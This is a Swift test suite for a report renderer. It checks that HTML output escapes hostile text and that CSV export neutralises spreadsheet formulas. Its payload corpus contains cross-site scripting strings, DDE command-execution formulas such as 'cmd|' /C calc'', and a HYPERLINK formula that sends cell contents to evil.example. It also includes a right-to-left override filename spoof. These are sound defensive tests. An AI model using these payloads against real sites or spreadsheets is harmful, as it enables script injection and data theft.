import CSVSupport
import Foundation
import Testing

@testable import Rendering

/// Hostile text in every text slot of a report must come out as text: no element, attribute or URL of its own.
@Suite struct EscapingTests {
    static let corpus = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg onload=alert(1)>",
        "</style><script>alert(1)</script>",
        "</title></head><body onload=alert(1)>",
        "javascript:alert(1)",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<svg onload=alert(1)><![CDATA[x]]></svg>",
        "]]><script>alert(1)</script>",
        "<!-- --><iframe src=https://evil.example/>",
        "&lt;script&gt; &amp; &#60;b&#62;",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTAB\r\nCRLF\u{0}NUL\u{202E}gpj.exe",
        "<style>body{background:url(https://evil.example/x.png)}</style>",
    ]

    /// Elements the renderer writes; anything else in the output came from the data.
    static let allowedElements: Set<String> = [
        "html", "head", "meta", "title", "style", "body", "header", "main", "footer", "section", "h1", "h2", "p", "div",
        "span", "aside", "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "figure", "figcaption",
        "ul", "li", "a", "nav", "strong", "svg", "text", "tspan", "line", "rect", "circle", "polyline", "polygon",
        "path",
    ]
    static let allowedAttributes: Set<String> = [
        "lang", "charset", "http-equiv", "content", "name", "class", "role", "aria-label", "aria-labelledby", "id",
        "scope", "href", "width", "height", "viewBox", "x", "y", "x1", "y1", "x2", "y2", "cx", "cy", "r", "d",
        "points", "dy", "fill", "fill-opacity", "fill-rule", "stroke", "stroke-width", "stroke-opacity",
        "stroke-dasharray",
        "stroke-linecap", "stroke-linejoin", "font-size", "font-weight", "text-anchor", "transform",
    ]

    /// How the payload must appear as element text: `&`, `<`, `>` escaped, NUL and the bidirectional override and
    /// isolate controls (U+202A…U+202E, U+2066…U+2069) shown as U+FFFD (written here, not by the renderer).
    static func expectedText(_ text: String) -> String {
        var result = text.replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "<", with: "&lt;")
            .replacingOccurrences(of: ">", with: "&gt;").replacingOccurrences(of: "\u{0}", with: "\u{FFFD}")
        for control in Array(0x202A...0x202E) + Array(0x2066...0x2069) {
            if let scalar = Unicode.Scalar(control) {
                result = result.replacingOccurrences(of: String(Character(scalar)), with: "\u{FFFD}")
            }
        }
        return result
    }

    @Test(arguments: corpus)
    func hostileTextStaysText(_ payload: String) throws {
        let clean = MarkupScan(HTMLRenderer().render(SampleReport.document(language: .ja)))
        for language in ReportLanguage.allCases {
            let document = SampleReport.document(language: language) { payload + " " + $0 }
            let html = HTMLRenderer().render(document)
            let scan = MarkupScan(html)
            #expect(scan.malformed.isEmpty, "malformed markup: \(scan.malformed)")
            let names = Set(scan.tags.map(\.name))
            #expect(
                names.isSubset(of: Self.allowedElements),
                "unexpected elements \(names.subtracting(Self.allowedElements))")
            for tag in scan.tags {
                for attribute in tag.attributes {
                    #expect(
                        Self.allowedAttributes.contains(attribute.name), "attribute \(attribute.name) on <\(tag.name)>")
                    #expect(!attribute.name.lowercased().hasPrefix("on"))
                    #expect(!attribute.value.lowercased().contains("javascript:"))
                    if attribute.name == "href" { #expect(attribute.value == "station_02010.html") }
                }
            }
            #expect(!html.lowercased().contains("<script"))
            #expect(!html.lowercased().contains("<img"))
            #expect(!html.lowercased().contains("<iframe"))
            #expect(!html.contains("<![CDATA["))
            #expect(!html.contains("\u{0}"))
            // The style sheet is the renderer's own, untouched by the data.
            #expect(scan.styleSheets == clean.styleSheets)
            #expect(scan.tags.filter { $0.name == "style" }.count == 2)
            // And the payload is still there, shown to the reader as the text it was.
            #expect(html.contains(Self.expectedText(payload)))
        }
    }

    @Test func attributeValuesEscapeQuotesAndAngleBrackets() {
        let node = MarkupNode.element(
            "div", ["title": "\"><img src=x onerror=alert(1)> 'x' &amp;"], [.text("a<b>&c\"")])
        #expect(
            node.rendered()
                == "<div title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt; &#39;x&#39; &amp;amp;\">a&lt;b&gt;&amp;c\"</div>\n"
        )
    }

    @Test func controlCharactersAreReplaced() {
        #expect(MarkupEscaping.escapedText("a\u{0}b\u{7}c\u{85}d\te\n") == "a\u{FFFD}b\u{FFFD}c\u{FFFD}d\te\n")
        #expect(
            MarkupEscaping.escapedText("58101-\u{202E}10D\u{2066}x\u{2069}") == "58101-\u{FFFD}10D\u{FFFD}x\u{FFFD}")
    }

    @Test(arguments: [
        "javascript:alert(1)", "https://evil.example/x.html", "../secret.html", "a/b.html", "\"x.html", "",
    ])
    func unsafeLinkTargetsAreNotLinked(_ target: String) {
        let document = ReportDocument(
            title: "index", generatedAt: "2026-04-15",
            sections: [ReportSection(title: "links", blocks: [.links([ReportLink(title: "report", fileName: target)])])]
        )
        let scan = MarkupScan(HTMLRenderer().render(document))
        #expect(scan.values(of: "href", in: "a").isEmpty)
        #expect(scan.tags.allSatisfy { $0.name != "a" })
    }

    @Test func plainFileNamesAreLinked() {
        let document = ReportDocument(
            title: "index", generatedAt: "2026-04-15",
            sections: [
                ReportSection(title: "links", blocks: [.links([ReportLink(title: "駅前", fileName: "zone_駅前.html")])])
            ])
        #expect(MarkupScan(HTMLRenderer().render(document)).values(of: "href", in: "a") == ["zone_駅前.html"])
    }

    @Test func csvNeutralisesFormulasInEveryCell() throws {
        let table = ReportTable(
            caption: "=cmd", columns: Self.corpus.map { ReportColumn($0) }, rows: [Self.corpus.map { .text($0) }],
            totals: Self.corpus.map { .text($0) }, denominatorNote: "@SUM(A1:A9)")
        let records = try CSVTestSupport.records(CSVRenderer().csv(for: table))
        // Header, row, totals, note: libcsv skips the empty line before the note.
        #expect(records.count == 4)
        let expected = Self.corpus.map { text -> String in
            let first = text.unicodeScalars.first
            return ["=", "+", "-", "@", "\t", "\r"].contains(first.map(Character.init)) ? "'" + text : text
        }
        #expect(records[0] == expected)
        #expect(records[1] == expected)
        #expect(records[2] == expected)
        #expect(records.last == ["'@SUM(A1:A9)"])
    }
}

/// Reads CSV bytes back with the project's libcsv reader, as the importers would.
enum CSVTestSupport {
    static func records(_ bytes: [UInt8]) throws -> [[String]] {
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("reports-\(UUID().uuidString).csv")
        try Data(bytes).write(to: url)
        defer { try? FileManager.default.removeItem(at: url) }
        let reader = try CSVFileReader(path: url.path, encoding: .utf8)
        var records: [[String]] = []
        try reader.forEachRecord { records.append($0.fields) }
        return records
    }
}
